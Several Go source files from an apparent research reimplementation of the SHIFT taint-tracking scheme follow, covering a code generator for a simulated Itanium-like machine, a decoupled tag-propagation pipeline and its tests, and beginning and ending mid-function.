		for j := 0; j < live; j++ {
			f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: sc1, Src1: isa.RegSP, Imm: f.tempSpill + int64(j)*8})
			f.emitABI(isa.Instruction{Op: isa.OpLdFill, Dest: uint8(tempBase + j), Src1: sc1, Size: 8, Imm: int64(j), ABI: true})
		}
	}

	if wantValue {
		t, err := f.push(e.Pos)
		if err != nil {
			return err
		}
		f.emit(isa.Instruction{Op: isa.OpMov, Dest: t, Src1: isa.RegRet})
	}
	return nil
}
