// Package codegen translates checked minic programs into the simulated
// ISA. It stands in for GCC's back-end in the paper's pipeline: it runs
// register allocation (scalar locals and parameters live in r40..r107,
// callee-saved; expression temporaries in r14..r31, caller-saved) and
// produces the post-allocation, pre-instrumentation instruction stream
// that internal/instrument operates on — the same point in the pipeline
// where the paper inserts SHIFT between pass_leaf_regs and pass_sched2.
//
// The machine has no base+displacement addressing (as on Itanium), so
// every stack access is an addi followed by a plain load or store.
// NaT bits must survive calling conventions: callee-saved registers and
// caller-saved temporaries are moved with st8.spill/ld8.fill and the UNAT
// register is saved around every spill region, exactly the discipline the
// paper attributes to the Itanium ABI ("automatically saved across
// function calls").
package codegen

import (
	"fmt"
	"sort"

	"shift/internal/isa"
	"shift/internal/lang"
	"shift/internal/mem"
)

// DataBase is where the data segment is loaded (region 1).
var DataBase = mem.Addr(1, 0x10000)

// Temp register window.
const (
	tempBase  = isa.RegTmp0
	tempCount = isa.RegTmpN - isa.RegTmp0 + 1
)

// Frame layout constants (offsets from the post-decrement SP).
const (
	frameB0       = 0  // saved return branch register
	frameUNAT     = 8  // UNAT as of the end of the prologue
	frameCallUNAT = 16 // UNAT around an in-body call
	frameSaved    = 24 // start of the callee-saved register area
)

// Error is a code-generation diagnostic.
type Error struct {
	Pos lang.Pos
	Msg string
}

// Error implements the error interface.
func (e *Error) Error() string { return fmt.Sprintf("codegen: %s: %s", e.Pos, e.Msg) }

// gen is the whole-program generator.
type gen struct {
	unit *lang.Unit
	prog *isa.Program
	data []byte

	strSyms map[string]string // literal -> data symbol
	labelN  int
}

// Compile translates a checked unit into a linked program whose entry
// point is a stub that calls main and exits with its return value.
func Compile(u *lang.Unit) (*isa.Program, error) {
	g := &gen{
		unit: u,
		prog: &isa.Program{
			Symbols:     make(map[string]int),
			DataSymbols: make(map[string]uint64),
			DataBase:    DataBase,
		},
		strSyms: make(map[string]string),
	}

	// Lay out globals first so every function sees their addresses.
	var names []string
	for name := range u.Globals {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		if err := g.layoutGlobal(u.Globals[name]); err != nil {
			return nil, err
		}
	}

	// Entry stub.
	g.label("__start")
	g.emit(isa.Instruction{Op: isa.OpBrCall, B: 0, Label: "main"})
	if u.Funcs["main"].Ret == lang.TypeVoid {
		g.emit(isa.Instruction{Op: isa.OpMov, Dest: isa.RegArg0, Src1: isa.RegZero})
	} else {
		g.emit(isa.Instruction{Op: isa.OpMov, Dest: isa.RegArg0, Src1: isa.RegRet})
	}
	g.emit(isa.Instruction{Op: isa.OpSyscall, Imm: isa.SysExit})

	// Functions in deterministic order.
	var fnames []string
	for name := range u.Funcs {
		fnames = append(fnames, name)
	}
	sort.Strings(fnames)
	for _, name := range fnames {
		if err := g.genFunc(u.Funcs[name]); err != nil {
			return nil, err
		}
	}

	g.prog.Data = g.data
	if err := g.prog.Link(); err != nil {
		return nil, err
	}
	g.prog.Entry = g.prog.Symbols["__start"]
	if err := g.prog.Validate(); err != nil {
		return nil, err
	}
	return g.prog, nil
}

func (g *gen) emit(ins isa.Instruction) { g.prog.Text = append(g.prog.Text, ins) }

func (g *gen) label(name string) { g.prog.Symbols[name] = len(g.prog.Text) }

func (g *gen) newLabel(stem string) string {
	g.labelN++
	return fmt.Sprintf(".L%d.%s", g.labelN, stem)
}

// layoutGlobal reserves and initialises data-segment storage.
func (g *gen) layoutGlobal(d *lang.VarDecl) error {
	// Intern any literal initializer first: interning appends to the
	// data image, so it must happen before this global's address is
	// fixed.
	var litSym string
	if init, ok := d.Init.(*lang.StrLit); ok {
		litSym = g.internString(init.Val)
	}
	// Every global is 8-aligned, like a conventional compiler would lay
	// them out. Alignment also matters for word-granularity taint
	// precision: byte-packed buffers would blur tags across objects.
	const align = int64(8)
	for int64(len(g.data))%align != 0 {
		g.data = append(g.data, 0)
	}
	g.prog.DataSymbols[d.Name] = DataBase + uint64(len(g.data))
	size := d.StorageSize()
	buf := make([]byte, size)
	switch {
	case d.InitList != nil:
		es := d.Type.Size()
		for i, v := range d.InitList {
			for b := int64(0); b < es; b++ {
				buf[int64(i)*es+b] = byte(uint64(v) >> (8 * b))
			}
		}
	case d.Init != nil:
		switch init := d.Init.(type) {
		case *lang.IntLit:
			for b := 0; b < int(size); b++ {
				buf[b] = byte(uint64(init.Val) >> (8 * b))
			}
		case *lang.StrLit:
			addr := g.prog.DataSymbols[litSym]
			for b := 0; b < 8; b++ {
				buf[b] = byte(addr >> (8 * b))
			}
		default:
			return &Error{d.Pos, "unsupported global initializer"}
		}
	default:
		copy(buf, d.InitStr)
	}
	g.data = append(g.data, buf...)
	return nil
}

// internString places a NUL-terminated literal in the data segment once.
func (g *gen) internString(s string) string {
	if sym, ok := g.strSyms[s]; ok {
		return sym
	}
	sym := fmt.Sprintf(".str%d", len(g.strSyms))
	g.strSyms[s] = sym
	g.prog.DataSymbols[sym] = DataBase + uint64(len(g.data))
	g.data = append(g.data, s...)
	g.data = append(g.data, 0)
	return sym
}
