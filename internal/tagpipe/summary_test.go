package tagpipe

import (
	"math/rand"
	"testing"

	"shift/internal/isa"
	"shift/internal/oracle"
)

// makeRandomRecs builds a producer-faithful random record stream: the
// field combinations are the ones hook.go can actually emit (fNatAfter
// only on dest-writing kinds, fDeferred only on rLoadSpec, addresses
// drawn from a small pool so segment summaries overlap heavily).
func makeRandomRecs(n int, seed int64) []rec {
	rng := rand.New(rand.NewSource(seed))
	addrs := []uint64{0x100, 0x104, 0x108, 0x110, 0x118, 0x120}
	sizes := []uint8{1, 2, 4, 8}
	ops := []isa.Opcode{isa.OpAdd, isa.OpMov, isa.OpMovl, isa.OpLd, isa.OpLdS,
		isa.OpLdFill, isa.OpSt, isa.OpCmpxchg, isa.OpMovToCcv, isa.OpMovFromCcv, isa.OpSetNat}
	recs := make([]rec, 0, n)
	for i := 0; i < n; i++ {
		r := rec{
			op:   ops[rng.Intn(len(ops))],
			dest: uint8(rng.Intn(14)),
			s1:   uint8(rng.Intn(14)),
			s2:   uint8(rng.Intn(14)),
			size: sizes[rng.Intn(len(sizes))],
			tid:  int32(rng.Intn(3)),
			pc:   int32(i),
			addr: addrs[rng.Intn(len(addrs))],
		}
		switch rng.Intn(10) {
		case 0:
			r.kind = rClear
		case 1:
			r.kind = rCopy
		case 2:
			r.kind = rLoad
		case 3:
			r.kind = rLoadSpec
			if rng.Intn(2) == 0 {
				r.flags |= fDeferred
				r.flags |= fNatAfter // the legal deferred outcome
			}
		case 4:
			r.kind = rLoadFill
			r.size = 8
		case 5:
			r.kind = rStore
			r.dest = 0
			if rng.Intn(2) == 0 {
				r.flags |= fAuth
			}
		case 6:
			r.kind = rCmpxchg
			if rng.Intn(2) == 0 {
				r.flags |= fCommitted
			}
			if rng.Intn(2) == 0 {
				r.flags |= fAuth
			}
		case 7:
			r.kind = rCcvSet
			r.dest = 0
		case 8:
			r.kind = rCcvGet
		default:
			r.kind = rUnion2
		}
		// A sprinkling of NaT-after bits on dest-writing records: some
		// will be backed by shadow taint (pass), some not (the suspect
		// path), some break a mechanical rule (rLoad with NaT).
		if r.kind != rStore && r.kind != rCcvSet && r.dest != 0 && rng.Intn(12) == 0 {
			r.flags |= fNatAfter
		}
		recs = append(recs, r)
	}
	return recs
}

// freshState builds a checking state with unit size 1 and a little
// pre-seeded taint so records have something to propagate.
func freshState(seed int64) *state {
	st := &state{unit: 1, mem: make(map[uint64]memUnit), threads: make(map[int32]*regShadow), checking: true}
	rng := rand.New(rand.NewSource(seed ^ 0x5eed))
	for tid := int32(0); tid < 3; tid++ {
		rs := st.regs(tid)
		for r := 1; r < 14; r++ {
			rs.taint[r] = rng.Intn(3) == 0
		}
	}
	for _, a := range []uint64{0x100, 0x104, 0x108, 0x110, 0x118, 0x120} {
		for i := uint64(0); i < 8; i++ {
			if rng.Intn(3) == 0 {
				st.mem[a+i] = memUnit{taint: true}
			}
		}
	}
	return st
}

// applyDirect is the reference: records one at a time, first divergence
// wins.
func applyDirect(st *state, recs []rec) *oracle.Divergence {
	for i := range recs {
		if d := st.applyRec(&recs[i]); d != nil {
			return d
		}
	}
	return nil
}

// The symbolic summary path must be indistinguishable from direct
// application: same final state, same first divergence (kind, register,
// record position), across many random streams. This is the property
// that makes worker-count invisible to verdicts.
func TestSummaryParity(t *testing.T) {
	summarized, fellBack := 0, 0
	for seed := int64(0); seed < 300; seed++ {
		recs := makeRandomRecs(64, seed)
		direct := freshState(seed)
		symbolic := freshState(seed)

		dDirect := applyDirect(direct, recs)

		seg := &segment{recs: recs}
		var dSym *oracle.Divergence
		if sum, ok := summarize(seg, symbolic.unit); ok {
			summarized++
			dSym = symbolic.applySummary(sum)
		} else {
			fellBack++
			dSym = applyDirect(symbolic, recs)
		}

		if (dDirect == nil) != (dSym == nil) {
			t.Fatalf("seed %d: divergence disagreement: direct=%+v symbolic=%+v", seed, dDirect, dSym)
		}
		if dDirect != nil {
			if dDirect.Kind != dSym.Kind || dDirect.Reg != dSym.Reg || dDirect.PC != dSym.PC || dDirect.TID != dSym.TID {
				t.Fatalf("seed %d: divergence detail: direct=%+v symbolic=%+v", seed, dDirect, dSym)
			}
			continue // post-failure state is unobservable by design
		}
		compareStates(t, direct, symbolic)
	}
	if summarized == 0 {
		t.Fatal("no stream was ever summarized; the symbolic path went untested")
	}
	t.Logf("summarized %d streams, %d dependency-overflow fallbacks", summarized, fellBack)
}

// Long OR-chains overflow the dependency bound and must report !ok
// rather than silently truncating taint flow.
func TestSummaryOverflowFallsBack(t *testing.T) {
	recs := make([]rec, 0, maxDeps+2)
	// r1 |= r2; r1 |= r3; ... — each union adds a fresh input dependency.
	for i := 0; i <= maxDeps; i++ {
		recs = append(recs, rec{kind: rUnion2, op: isa.OpOr, dest: 1, s1: 1, s2: uint8(2 + i), pc: int32(i)})
	}
	if _, ok := summarize(&segment{recs: recs}, 1); ok {
		t.Fatalf("summary of a %d-dependency chain did not overflow", maxDeps+1)
	}
	// One union fewer stays within the bound.
	if _, ok := summarize(&segment{recs: recs[:maxDeps-1]}, 1); !ok {
		t.Fatalf("summary below the bound unexpectedly overflowed")
	}
}

// Word-granularity unit arithmetic: a 4-byte store at an unaligned
// offset covers the same units for the worker and the committer.
func TestUnitsOfAlignment(t *testing.T) {
	got := unitsOf(0x106, 4, 8)
	want := []uint64{0x100, 0x108}
	if len(got) != len(want) || got[0] != want[0] || got[1] != want[1] {
		t.Fatalf("unitsOf(0x106, 4, 8) = %#x, want %#x", got, want)
	}
	if one := unitsOf(0x100, 1, 1); len(one) != 1 || one[0] != 0x100 {
		t.Fatalf("unitsOf(0x100, 1, 1) = %#x", one)
	}
}
