package tagpipe

import (
	"errors"
	"testing"

	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/oracle"
	"shift/internal/taint"
)

// buildMachine assembles a program, maps the data regions and returns a
// machine with a tag space over region 0 (same fixture as the oracle's).
func buildMachine(t *testing.T, text []isa.Instruction, g taint.Granularity) (*machine.Machine, *taint.Space) {
	t.Helper()
	p := &isa.Program{Text: text}
	if err := p.Validate(); err != nil {
		t.Fatal(err)
	}
	memory := mem.New()
	tags := taint.NewSpace(memory, g)
	memory.MapRegion(2, 0)
	m := machine.New(p, memory)
	return m, tags
}

func stepAll(m *machine.Machine, n int) *machine.Trap {
	for i := 0; i < n; i++ {
		if trap := m.Step(); trap != nil {
			return trap
		}
	}
	return nil
}

var dataAddr = mem.Addr(2, 0x100)

// A clean round trip must finish divergence-free at every worker count,
// and the retirement log must have actually flowed.
func TestPipelineCleanRun(t *testing.T) {
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: int64(dataAddr)},
		{Op: isa.OpMovl, Dest: 2, Imm: 42},
		{Op: isa.OpSt, Src1: 1, Src2: 2, Size: 8},
		{Op: isa.OpLd, Dest: 3, Src1: 1, Size: 8},
		{Op: isa.OpAdd, Dest: 4, Src1: 2, Src2: 3},
	}
	for _, workers := range []int{1, 4} {
		for _, instrumented := range []bool{false, true} {
			m, tags := buildMachine(t, text, taint.Byte)
			p := New(Config{Tags: tags, Instrumented: instrumented, Workers: workers})
			p.Attach(m)
			if trap := stepAll(m, len(text)); trap != nil {
				t.Fatalf("workers=%d instrumented=%v: %v", workers, instrumented, trap)
			}
			if err := p.Finish(m); err != nil {
				t.Fatalf("workers=%d instrumented=%v: Finish: %v", workers, instrumented, err)
			}
			p.Close()
			if got := p.Stats.Records.Load(); got != uint64(len(text)) {
				t.Errorf("workers=%d: %d records, want %d", workers, got, len(text))
			}
			if p.Lag() != 0 {
				t.Errorf("workers=%d: lag %d after Finish, want 0", workers, p.Lag())
			}
		}
	}
}

// A store whose tag update went missing surfaces as a bitmap divergence.
// Detection is sink-granular: with no syscalls in the program it lands at
// Finish rather than at the next instruction boundary.
func TestPipelineCatchesStaleBitmap(t *testing.T) {
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: int64(dataAddr)},
		{Op: isa.OpMovl, Dest: 2, Imm: 7},
		{Op: isa.OpSt, Src1: 1, Src2: 2, Size: 8}, // clean store, no tag update follows
		{Op: isa.OpAdd, Dest: 4, Src1: 2, Src2: 2},
	}
	for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
		for _, workers := range []int{1, 4} {
			m, tags := buildMachine(t, text, g)
			if err := tags.SetRange(dataAddr, 8); err != nil { // seeded bug: stale taint
				t.Fatal(err)
			}
			p := New(Config{Tags: tags, Instrumented: true, Workers: workers})
			p.Attach(m)
			if trap := stepAll(m, len(text)); trap != nil {
				t.Fatalf("gran=%v workers=%d: unexpected trap %v", g, workers, trap)
			}
			err := p.Finish(m)
			p.Close()
			var d *oracle.Divergence
			if !errors.As(err, &d) || d.Kind != oracle.DivBitmap {
				t.Fatalf("gran=%v workers=%d: Finish = %v, want DivBitmap", g, workers, err)
			}
			if !d.Machine || d.Shadow {
				t.Errorf("gran=%v workers=%d: machine=%v shadow=%v, want true/false", g, workers, d.Machine, d.Shadow)
			}
			if p.Divergence() == nil {
				t.Errorf("gran=%v workers=%d: Divergence() not latched", g, workers)
			}
		}
	}
}

// A phantom NaT token (no shadow taint accounting for it) surfaces at the
// next sink's register sweep — here, Finish.
func TestPipelineCatchesPhantomNaT(t *testing.T) {
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: 3},
		{Op: isa.OpAddi, Dest: 2, Src1: 1, Imm: 1},
	}
	m, tags := buildMachine(t, text, taint.Byte)
	p := New(Config{Tags: tags, Instrumented: true, Workers: 2})
	p.Attach(m)
	if trap := m.Step(); trap != nil {
		t.Fatal(trap)
	}
	m.NaT[6] = true // seeded bug: token appears out of nowhere
	if trap := m.Step(); trap != nil {
		t.Fatalf("decoupled checks fired mid-run: %v (expected sink-granular detection)", trap)
	}
	err := p.Finish(m)
	p.Close()
	var d *oracle.Divergence
	if !errors.As(err, &d) || d.Kind != oracle.DivRegister || d.Reg != 6 {
		t.Fatalf("Finish = %v, want DivRegister on r6", err)
	}
}

// The reverse direction: shadow taint the machine lost (NaT clear where
// the reference says tainted) surfaces at the closing sweep too.
func TestPipelineCatchesDroppedTaint(t *testing.T) {
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: int64(dataAddr)},
		{Op: isa.OpLd, Dest: 2, Src1: 1, Size: 8}, // loads tainted data, NaT stays clear
		{Op: isa.OpAddi, Dest: 3, Src1: 2, Imm: 1},
		{Op: isa.OpNop},
	}
	for _, workers := range []int{1, 3} {
		m, tags := buildMachine(t, text, taint.Byte)
		if err := tags.SetRange(dataAddr, 8); err != nil {
			t.Fatal(err)
		}
		p := New(Config{Tags: tags, Instrumented: true, Workers: workers})
		p.Attach(m)
		p.HostTaint(dataAddr, 8) // the OS says the source is real
		if trap := stepAll(m, len(text)); trap != nil {
			t.Fatalf("workers=%d: unexpected trap %v", workers, trap)
		}
		err := p.Finish(m)
		p.Close()
		var d *oracle.Divergence
		if !errors.As(err, &d) || d.Kind != oracle.DivRegister {
			t.Fatalf("workers=%d: Finish = %v, want DivRegister", workers, err)
		}
		if d.Machine || !d.Shadow {
			t.Errorf("workers=%d: machine=%v shadow=%v, want false/true", workers, d.Machine, d.Shadow)
		}
	}
}

// The mechanical NaT rules keep per-record granularity: a broken rule in
// the log is detected by the consumer without waiting for a sink, and the
// producer surfaces it on the next retirement.
func TestPipelineNaTRulePerRecord(t *testing.T) {
	for _, workers := range []int{1, 4} {
		p := New(Config{Workers: workers, SegRecords: 1}) // submit every record
		p.emit(rec{kind: rLoad, op: isa.OpLd, dest: 5, size: 8, flags: fNatAfter, pc: 7})
		p.drain()
		d := p.Divergence()
		p.Close()
		if d == nil || d.Kind != oracle.DivNaTRule || d.Reg != 5 || d.PC != 7 {
			t.Fatalf("workers=%d: divergence = %+v, want DivNaTRule on r5@pc7", workers, d)
		}
	}
}

// Host-effect notifications steer the committed shadow synchronously.
func TestPipelineHostEffects(t *testing.T) {
	p := New(Config{Workers: 2})
	defer p.Close()
	p.HostTaint(dataAddr, 4)
	if !p.st.loadTaint(dataAddr, 4) {
		t.Error("HostTaint did not mark the shadow")
	}
	p.HostUntaint(dataAddr, 4)
	if p.st.loadTaint(dataAddr, 4) {
		t.Error("HostUntaint did not clear the shadow")
	}
	p.HostTaint(dataAddr, 2)
	p.HostWrite(dataAddr, 4)
	if !p.st.loadTaint(dataAddr, 2) || p.st.loadTaint(dataAddr+2, 2) {
		t.Error("HostWrite did not preserve the shadow's sticky taint")
	}
}

// Spawn inheritance and the UnsafePreempt stand-down mirror the oracle.
func TestPipelineSpawn(t *testing.T) {
	p := New(Config{Instrumented: true, Tags: nil, Workers: 1})
	p.st.checking = true // force: Tags==nil would disable
	p.st.regs(0).taint[isa.RegArg0+1] = true
	p.OnSpawn(0, 1)
	if !p.st.regs(1).taint[isa.RegArg0] {
		t.Error("child argument taint not inherited")
	}
	if !p.st.checking {
		t.Error("strong checks stood down without UnsafePreempt")
	}
	p.Close()

	u := New(Config{Instrumented: true, UnsafePreempt: true, Workers: 1})
	u.st.checking = true
	u.st.regs(0).taint[isa.RegArg0+1] = true
	u.OnSpawn(0, 1)
	if u.st.checking || !u.st.concurrent {
		t.Error("strong checks still on after spawn under UnsafePreempt")
	}
	if !u.st.regs(1).taint[isa.RegArg0] {
		t.Error("child argument taint not inherited under UnsafePreempt")
	}
	u.Close()
}

// A tiny ring forces the producer through the recycle path: counters
// reconcile and the state after a drain equals a never-stalled run's.
func TestPipelineTinyRing(t *testing.T) {
	big := New(Config{Workers: 1})
	tiny := New(Config{Workers: 3, Segments: 2, SegRecords: 2})
	recs := makeRandomRecs(300, 99)
	for i := range recs {
		big.emit(recs[i])
		tiny.emit(recs[i])
	}
	big.drain()
	tiny.drain()
	if d1, d2 := big.Divergence(), tiny.Divergence(); (d1 == nil) != (d2 == nil) {
		t.Fatalf("divergence disagreement: big=%v tiny=%v", d1, d2)
	}
	compareStates(t, big.st, tiny.st)
	if got := tiny.Stats.Records.Load(); got != 300 {
		t.Errorf("tiny ring recorded %d records, want 300", got)
	}
	if tiny.Stats.Segments.Load() != 150 {
		t.Errorf("tiny ring used %d segments, want 150", tiny.Stats.Segments.Load())
	}
	if tiny.Lag() != 0 {
		t.Errorf("lag %d after drain, want 0", tiny.Lag())
	}
	big.Close()
	tiny.Close()
}

// compareStates asserts two shadow states are identical over every
// thread and every tracked unit.
func compareStates(t *testing.T, a, b *state) {
	t.Helper()
	for tid, ra := range a.threads {
		rb := b.regs(tid)
		if ra.taint != rb.taint || ra.ccv != rb.ccv {
			t.Fatalf("tid %d: register shadows differ", tid)
		}
	}
	for tid := range b.threads {
		if _, ok := a.threads[tid]; !ok && (b.threads[tid].taint != [isa.NumGR]bool{} || b.threads[tid].ccv) {
			t.Fatalf("tid %d: shadow only in one state", tid)
		}
	}
	seen := make(map[uint64]bool)
	for u, ma := range a.mem {
		seen[u] = true
		if mb := b.mem[u]; ma.taint != mb.taint || ma.hidden != mb.hidden {
			t.Fatalf("unit %#x: %+v vs %+v", u, ma, b.mem[u])
		}
	}
	for u, mb := range b.mem {
		if !seen[u] {
			if ma := a.mem[u]; ma.taint != mb.taint || ma.hidden != mb.hidden {
				t.Fatalf("unit %#x: only tracked in one state (%+v)", u, mb)
			}
		}
	}
}
