// Package tagpipe is the decoupled tag pipeline: asynchronous shadow
// taint propagation over a retirement log, the software analogue of the
// paper's separate tag-datapath argument and of the trace-fed DIFT
// coprocessor line of work.
//
// The execution engine (producer) emits one compact record per retired
// instruction — the instruction's taint-transfer function plus the
// pre-state the lockstep oracle would have captured — into a bounded
// ring of segments. N workers turn segments into symbolic transfer-
// function summaries in parallel; a single committer composes the
// summaries onto the committed shadow state in retirement order.
// Policy-relevant sinks (syscalls, chk.s recoveries, host effects on
// guest memory) are synchronization points: the producer drains the
// ring, so every verdict is rendered against fully propagated state.
//
// The lag between execution and propagation is bounded by the ring:
// Segments × SegRecords records. Within that window the mechanical NaT
// rules and the NaT-implies-taint check keep per-record granularity
// (the producer snapshots the machine facts into the record); the
// register-equality and bitmap cross-checks run at sink granularity
// rather than at every original-instruction boundary — see DESIGN.md
// "Decoupled tag pipeline" for why the verdicts still agree with the
// inline lockstep oracle.
package tagpipe

import (
	"fmt"
	"sync"
	"sync/atomic"

	"shift/internal/machine"
	"shift/internal/oracle"
	"shift/internal/taint"
)

// MaxWorkers bounds Config.Workers and the CLI -tagpipe flag. Worker
// goroutines beyond the host's core count only add scheduling overhead;
// the cap exists to turn a typo'd worker count into a usage error
// rather than a thousand idle goroutines.
const MaxWorkers = 256

// ValidateWorkers checks a -tagpipe style worker count: 0 keeps
// checking inline (no pipeline), 1..MaxWorkers enable the pipeline.
func ValidateWorkers(n int) error {
	if n < 0 || n > MaxWorkers {
		return fmt.Errorf("invalid tagpipe worker count %d (want 0..%d; 0 = inline)", n, MaxWorkers)
	}
	return nil
}

// Config selects what the pipeline tracks and how it is provisioned.
// The first three fields mirror oracle.Config — the pipeline renders the
// same verdicts, just asynchronously.
type Config struct {
	// Tags is the tag bitmap under test; nil disables bitmap cross-checks.
	Tags *taint.Space
	// Instrumented states that the guest maintains tags; false keeps only
	// the mechanical NaT-rule checks.
	Instrumented bool
	// UnsafePreempt mirrors machine.Machine.UnsafePreempt: the strong
	// checks stand down once a second thread spawns.
	UnsafePreempt bool
	// Workers is the number of summarization workers (min 1). With one
	// worker every segment takes the direct path — raw records applied in
	// order — which is the reference behaviour the symbolic path must match.
	Workers int
	// SegRecords is the record capacity of one ring segment (default 256).
	SegRecords int
	// Segments is the ring depth in segments (default 64). The lag window
	// is Segments × SegRecords records; a producer that gets further ahead
	// stalls until the committer frees a segment.
	Segments int
}

// Stats are the pipeline's own counters, all safe for concurrent access:
// the producer, workers and committer update them from their own
// goroutines.
type Stats struct {
	Records    atomic.Uint64 // retirement-log records emitted
	Segments   atomic.Uint64 // segments submitted
	Stalls     atomic.Uint64 // producer waits for a free segment
	Drains     atomic.Uint64 // sink synchronizations
	DirectSegs atomic.Uint64 // segments applied record-by-record (no summary)
	RegChecks  atomic.Uint64 // register boundary comparisons at sinks
	UnitChecks atomic.Uint64 // bitmap unit comparisons at sinks
	Sweeps     atomic.Uint64 // syscall/final bitmap sweeps
}

// Pipeline is the decoupled tag engine. It implements machine.StepHook
// (the producer side), the shift package's HostEffects interface, and
// its SinkSyncer extension. Producer-side methods must be called from
// the execution goroutine only.
type Pipeline struct {
	cfg Config
	st  *state

	// Producer scratch for the instruction in flight (one goroutine, one
	// instruction at a time — mirrors the oracle's per-thread pre-state,
	// collapsed because the scheduler never preempts mid-instruction).
	squashed bool
	addr     uint64
	deferred bool
	ccvPre   uint64
	xchgOld  uint64
	r8       int64
	r8NaT    bool

	cur     *segment // partial segment being filled
	nextSeq uint64   // stamp for the next submitted segment
	lastSeq uint64   // last submitted seq (drain target)

	free chan *segment // recycled segments, capacity = ring depth
	work chan *segment // producer → workers
	out  chan *segment // workers → committer (reordered there)

	mu         sync.Mutex
	cond       *sync.Cond
	appliedSeq uint64
	failure    *oracle.Divergence
	failed     atomic.Bool

	producedRecs atomic.Uint64
	appliedRecs  atomic.Uint64

	workerWG      sync.WaitGroup
	committerDone chan struct{}
	closed        bool

	Stats Stats
}

// New builds and starts a pipeline: Workers summarizers plus one
// committer. Close must be called to stop them.
func New(cfg Config) *Pipeline {
	if cfg.Workers < 1 {
		cfg.Workers = 1
	}
	if cfg.SegRecords <= 0 {
		cfg.SegRecords = 256
	}
	if cfg.Segments <= 0 {
		cfg.Segments = 64
	}
	p := &Pipeline{
		cfg:           cfg,
		st:            newState(cfg),
		free:          make(chan *segment, cfg.Segments),
		work:          make(chan *segment, cfg.Segments),
		out:           make(chan *segment, cfg.Segments),
		committerDone: make(chan struct{}),
	}
	p.cond = sync.NewCond(&p.mu)
	for i := 0; i < cfg.Segments; i++ {
		p.free <- &segment{recs: make([]rec, 0, cfg.SegRecords)}
	}
	p.workerWG.Add(cfg.Workers)
	for i := 0; i < cfg.Workers; i++ {
		go p.worker()
	}
	go p.committer()
	return p
}

// Attach installs the pipeline as the machine's step hook.
func (p *Pipeline) Attach(m *machine.Machine) {
	m.Hook = p
}

// Divergence returns the first divergence found, or nil.
func (p *Pipeline) Divergence() *oracle.Divergence {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.failure
}

// Lag reports how many retired records are still awaiting propagation.
func (p *Pipeline) Lag() uint64 {
	pr, ap := p.producedRecs.Load(), p.appliedRecs.Load()
	if ap >= pr {
		return 0
	}
	return pr - ap
}

// Close stops the workers and committer, applying everything already
// submitted. Records still in the partial producer segment are submitted
// first so counters reconcile. Idempotent; producer-goroutine only.
func (p *Pipeline) Close() {
	if p.closed {
		return
	}
	p.closed = true
	p.flushSeg()
	close(p.work)
	p.workerWG.Wait()
	close(p.out)
	<-p.committerDone
}

// Finish drains the ring and runs the final sink checks (register sweep
// + bitmap sweep) after a clean halt, mirroring oracle.Finish. Call it
// once execution has halted without a trap, before Close.
func (p *Pipeline) Finish(m *machine.Machine) error {
	p.drain()
	if err := p.failureErr(m); err != nil {
		return err
	}
	if !p.st.checking {
		return nil
	}
	if d := p.st.flushCheck(m, "finish", -1, &p.Stats); d != nil {
		return p.latchErr(m, d)
	}
	if d := p.st.sweep(p.cfg.Tags, m, "finish", &p.Stats); d != nil {
		return p.latchErr(m, d)
	}
	return nil
}

// grab takes a free segment, counting a stall when the ring is full and
// the producer has to wait for the committer.
func (p *Pipeline) grab() *segment {
	select {
	case s := <-p.free:
		return s
	default:
		p.Stats.Stalls.Add(1)
		return <-p.free
	}
}

// emit appends one record, submitting the segment when it fills.
func (p *Pipeline) emit(r rec) {
	if p.cur == nil {
		p.cur = p.grab()
	}
	p.cur.recs = append(p.cur.recs, r)
	if len(p.cur.recs) >= p.cfg.SegRecords {
		p.flushSeg()
	}
}

// flushSeg submits the partial segment, if any.
func (p *Pipeline) flushSeg() {
	if p.cur == nil || len(p.cur.recs) == 0 {
		return
	}
	p.nextSeq++
	p.cur.seq = p.nextSeq
	p.lastSeq = p.nextSeq
	n := uint64(len(p.cur.recs))
	p.producedRecs.Add(n)
	p.Stats.Records.Add(n)
	p.Stats.Segments.Add(1)
	p.work <- p.cur
	p.cur = nil
}

// drain submits the partial segment and blocks until everything
// submitted has been applied (or skipped, after a failure) — the sink
// synchronization point. On return the committed state is quiescent and
// the producer may read and mutate it directly: the cond wait under mu
// establishes the happens-before edge with the committer's writes.
func (p *Pipeline) drain() {
	p.Stats.Drains.Add(1)
	p.flushSeg()
	target := p.lastSeq
	p.mu.Lock()
	for p.appliedSeq < target {
		p.cond.Wait()
	}
	p.mu.Unlock()
}

// failureErr returns the latched divergence as the PostStep error,
// rendering the shadow snapshot lazily (producer goroutine, machine
// quiescent — the committer cannot touch the machine).
func (p *Pipeline) failureErr(m *machine.Machine) error {
	p.mu.Lock()
	d := p.failure
	p.mu.Unlock()
	if d == nil {
		return nil
	}
	if d.Snapshot == "" {
		d.Snapshot = p.st.snapshot(m)
	}
	return d
}

// latchErr records a producer-side (sink check) divergence, keeping the
// first one if the committer raced one in.
func (p *Pipeline) latchErr(m *machine.Machine, d *oracle.Divergence) error {
	d.Snapshot = p.st.snapshot(m)
	p.mu.Lock()
	if p.failure == nil {
		p.failure = d
		p.failed.Store(true)
	}
	d = p.failure
	p.mu.Unlock()
	return d
}

// worker summarizes segments. With a single worker (or after a failure)
// segments pass through untouched and the committer applies raw records.
func (p *Pipeline) worker() {
	defer p.workerWG.Done()
	for seg := range p.work {
		if p.cfg.Workers > 1 && !p.failed.Load() {
			if sum, ok := summarize(seg, p.st.unit); ok {
				seg.sum = sum
			}
		}
		p.out <- seg
	}
}

// committer reorders segments by sequence number and applies them. After
// a failure it keeps recycling segments (skipping the apply) so the
// producer's drains and stalls always terminate.
func (p *Pipeline) committer() {
	defer close(p.committerDone)
	pending := make(map[uint64]*segment)
	next := uint64(1)
	for seg := range p.out {
		pending[seg.seq] = seg
		for {
			s, ok := pending[next]
			if !ok {
				break
			}
			delete(pending, next)
			p.commit(s)
			next++
		}
	}
}

// commit applies one segment in retirement order, publishes the applied
// sequence number, and recycles the segment.
func (p *Pipeline) commit(seg *segment) {
	var d *oracle.Divergence
	if !p.failed.Load() {
